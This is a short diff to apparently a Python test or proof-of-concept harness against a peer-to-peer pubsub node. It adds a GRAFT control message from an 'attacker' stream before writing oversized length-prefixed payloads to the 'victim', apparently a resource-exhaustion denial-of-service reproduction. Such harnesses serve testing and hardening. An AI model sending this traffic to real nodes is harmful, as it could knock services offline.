@@ -134,6 +134,8 @@ async def frames(host: Any, victim: Any) -> None:
 
 async def hoards(host: Any, victim: Any) -> None:
     attacker = await speaking(host, victim)
+    graft = rpc_pb2.ControlMessage(graft=[rpc_pb2.ControlGraft(topicID=attacker.topic)])
+    await attacker.raw(encode_varint_prefixed(rpc_pb2.RPC(control=graft).SerializeToString()))
     others = [await host.new_stream(victim, [PROTOCOL_ID_V11]) for _ in range(2)]
     for stream in (attacker.stream, *others):
         await stream.write(encode_uvarint(2**20) + bytes(5 * 2**20 // 6))
